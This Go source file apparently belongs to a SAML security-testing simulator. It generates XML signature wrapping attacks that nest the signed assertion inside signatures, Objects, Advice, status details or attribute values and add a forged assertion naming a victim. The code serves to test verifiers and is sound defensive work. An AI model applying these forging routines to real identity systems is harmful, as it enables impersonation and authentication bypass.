package forge

import (
	"github.com/beevik/etree"

	"rollcall.example/simulator/idp"
)

// Signature wrapping: the signed element stays somewhere in the document, so that its
// signature goes on holding, and a forged one stands where the reader looks. The shapes
// numbered 1 to 8 are those of Somorovsky and others, "On Breaking SAML" (2012).

// wrapping is a document that is being wrapped.
type wrapping struct {
	donor     Donor
	response  *etree.Element
	assertion *etree.Element // the signed one, in its place
	// sameID leaves the forged element under the ID of the signed one.
	sameID bool
}

// shape arranges what is signed and what is forged.
type shape func(w wrapping) error

// onBreakingSAML is where the shapes come from.
const onBreakingSAML = "Somorovsky et al., On Breaking SAML (2012)"

// wraps makes the attack in two forms: with the forged element under an ID of its own
// and under that of the signed one. Verifiers that find an element by its ID differ in
// what they make of the second.
func wraps(a Attack, arrange shape) []Attack {
	var forms []Attack
	for _, sameID := range []bool{false, true} {
		form := a
		form.Rule = a.Proves()
		form.Name = a.Name + "-new-id"
		if sameID {
			form.Name = a.Name + "-same-id"
			form.Summary += ", under one ID"
		}
		form.document = arranged(sameID, arrange)
		forms = append(forms, form)
	}
	return forms
}

func arranged(sameID bool, arrange shape) func(Donor, *idp.Draft) error {
	return func(d Donor, draft *idp.Draft) error {
		return arrange(wrapping{donor: d, response: draft.Response, assertion: draft.Assertion, sameID: sameID})
	}
}

func init() {
	responses := []idp.Signing{idp.SignResponse, idp.SignBoth}
	for _, a := range []struct {
		attack  Attack
		arrange shape
	}{
		{Attack{
			Row: "XSW-01", Name: "response-in-signature", Modes: responses, Summary: "holds the signed one inside its signature (XSW1)",
			Precondition: "takes a signature with a child that does not belong there",
		}, func(w wrapping) error {
			return w.forgeResponse(func(original, signature *etree.Element) { signature.AddChild(original) })
		}},
		{Attack{
			Row: "XSW-02", Name: "response-in-object", Modes: responses, Summary: "holds the signed one in an Object of its signature (XSW1)",
		}, func(w wrapping) error {
			return w.forgeResponse(func(original, signature *etree.Element) { inObject(signature, original) })
		}},
		{Attack{
			Row: "XSW-03", Name: "response-before-signature", Modes: responses, Summary: "holds the signed one next to its signature (XSW2)",
		}, func(w wrapping) error {
			return w.forgeResponse(func(original, signature *etree.Element) { before(signature, original) })
		}},
		{Attack{
			Row: "XSW-04", Name: "forged-assertion-first", Sources: []string{"CVE-2026-89043"},
			Summary: "has a forged assertion before the signed one (XSW3)",
		}, func(w wrapping) error {
			return w.besides(func(forged *etree.Element) { before(w.assertion, forged) })
		}},
		{Attack{
			Row: "XSW-05", Name: "forged-assertion-around", Summary: "holds the signed assertion inside a forged one (XSW4)",
		}, func(w wrapping) error {
			return w.around(func(forged *etree.Element) (*etree.Element, error) { return forged, nil })
		}},
		{Attack{
			Row: "XSW-06", Name: "signature-moved", Summary: "has the signature in a forged assertion, and the signed one behind it (XSW5)",
		}, func(w wrapping) error {
			return w.forgeAssertion(func(original, _ *etree.Element) { w.response.AddChild(original) })
		}},
		{Attack{
			Row: "XSW-07", Name: "assertion-in-signature", Summary: "holds the signed assertion inside its signature, which a forged one bears (XSW6)",
			Precondition: "takes a signature with a child that does not belong there",
		}, func(w wrapping) error {
			return w.forgeAssertion(func(original, signature *etree.Element) { signature.AddChild(original) })
		}},
		{Attack{
			Row: "XSW-11", Name: "assertion-in-object",
			Summary: "holds the signed assertion in an Object of its signature, which a forged one bears (XSW6, XSW8)",
		}, func(w wrapping) error {
			return w.forgeAssertion(func(original, signature *etree.Element) { inObject(signature, original) })
		}},
		{Attack{
			Row: "XSW-09", Name: "forged-assertion-in-extensions", Summary: "has a forged assertion in its Extensions (XSW7)",
		}, func(w wrapping) error {
			place, err := extensions(w.response)
			if err != nil {
				return err
			}
			return w.besides(func(forged *etree.Element) { place.AddChild(forged) })
		}},
		{Attack{
			Row: "XSW-13", Name: "forged-assertion-last", Sources: []string{"CVE-2022-41912"},
			Summary: "has a forged assertion behind the signed one",
		}, func(w wrapping) error {
			return w.besides(func(forged *etree.Element) { behind(w.assertion, forged) })
		}},
		{Attack{
			Row: "XSW-14", Name: "signed-in-advice", Summary: "holds the signed assertion in the Advice of a forged one",
		}, func(w wrapping) error {
			return w.around(func(forged *etree.Element) (*etree.Element, error) {
				conditions, err := find(forged, "Conditions")
				if err != nil {
					return nil, err
				}
				advice := samlElement("Advice")
				behind(conditions, advice)
				return advice, nil
			})
		}},
		{Attack{
			Row: "XSW-15", Name: "signed-in-status", Sources: []string{"CVE-2024-45409"},
			Summary: "holds the signed assertion in the details of its status, and a forged one in its place",
		}, func(w wrapping) error {
			status, err := find(w.response, "Status")
			if err != nil {
				return err
			}
			return w.around(func(*etree.Element) (*etree.Element, error) {
				detail := etree.NewElement("saml2p:StatusDetail")
				status.AddChild(detail)
				return detail, nil
			})
		}},
		{Attack{
			Row: "XSW-16", Name: "signed-in-confirmation", Summary: "holds the signed assertion in the subject's confirmation of a forged one",
		}, func(w wrapping) error {
			return w.around(func(forged *etree.Element) (*etree.Element, error) {
				return find(forged, "Subject/SubjectConfirmation/SubjectConfirmationData")
			})
		}},
		{Attack{
			Row: "XSW-17", Name: "signed-in-attribute", Sources: []string{"CVE-2021-21238"},
			Summary: "holds the signed assertion in an attribute's value of a forged one",
		}, func(w wrapping) error {
			return w.around(func(forged *etree.Element) (*etree.Element, error) {
				statement := samlElement("AttributeStatement")
				attribute := statement.CreateElement("saml2:Attribute")
				attribute.CreateAttr("Name", "original")
				forged.AddChild(statement)
				return attribute.CreateElement("saml2:AttributeValue"), nil
			})
		}},
		{Attack{
			Row: "XSW-18", Name: "signed-in-key-info", Summary: "holds the signed assertion in the KeyInfo of the signature, which a forged one bears",
		}, func(w wrapping) error {
			return w.forgeAssertion(func(original, signature *etree.Element) {
				signature.SelectElement("KeyInfo").AddChild(original)
			})
		}},
	} {
		a.attack.Expect = Harmless
		if a.attack.Modes == nil {
			a.attack.Modes, a.attack.wraps = OnAssertion, true
		}
		a.attack.Sources = append([]string{onBreakingSAML}, a.attack.Sources...)
		register("xsw", wraps(a.attack, a.arrange)...)
	}
}

// forgeResponse makes the response name the victim, and puts what was signed, as the
// signature covers it, where it is told to.
func (w wrapping) forgeResponse(put func(original, signature *etree.Element)) error {
	signature, err := find(w.response, "Signature")
	if err != nil {
		return err
	}
	original := unsigned(w.response)
	if err := impersonate(w.donor, w.assertion); err != nil {
		return err
	}
	w.rename(w.response, w.assertion)
	put(original, signature)
	return nil
}

// forgeAssertion makes the assertion that bears the signature name the victim, and puts
// what was signed where it is told to.
func (w wrapping) forgeAssertion(put func(original, signature *etree.Element)) error {
	signature, err := find(w.assertion, "Signature")
	if err != nil {
		return err
	}
	original := unsigned(w.assertion)
	if err := impersonate(w.donor, w.assertion); err != nil {
		return err
	}
	w.rename(w.assertion)
	put(original, signature)
	return nil
}

// besides leaves the signed assertion as it is and puts a forged one where it is told to.
func (w wrapping) besides(put func(forged *etree.Element)) error {
	forged, err := w.forged()
	if err == nil {
		put(forged)
	}
	return err
}

// around puts a forged assertion in the place of the signed one, which goes where the
// forged one has room for it.
func (w wrapping) around(room func(forged *etree.Element) (*etree.Element, error)) error {
	forged, err := w.forged()
	if err != nil {
		return err
	}
	place, err := room(forged)
	if err != nil {
		return err
	}
	before(w.assertion, forged)
	w.response.RemoveChild(w.assertion)
	place.AddChild(w.assertion)
	return nil
}

// forged is a copy of the assertion that names the victim and is not signed.
func (w wrapping) forged() (*etree.Element, error) {
	forged := unsigned(w.assertion)
	if err := impersonate(w.donor, forged); err != nil {
		return nil, err
	}
	w.rename(forged)
	return forged, nil
}

// rename gives forged elements IDs of their own, which no message had before: a product
// that keeps the IDs that it has seen shall not refuse the attack for that.
func (w wrapping) rename(forged ...*etree.Element) {
	if w.sameID {
		return
	}
	for _, el := range forged {
		el.CreateAttr("ID", el.SelectAttrValue("ID", "")+"0")
	}
}

// inObject puts the element into a ds:Object at the end of the signature.
func inObject(signature, el *etree.Element) {
	place := object()
	place.AddChild(el)
	signature.AddChild(place)
}

// samlElement is an empty element of an assertion that declares its namespace itself.
func samlElement(tag string) *etree.Element {
	el := etree.NewElement("saml2:" + tag)
	el.CreateAttr("xmlns:saml2", nsAssertion)
	return el
}
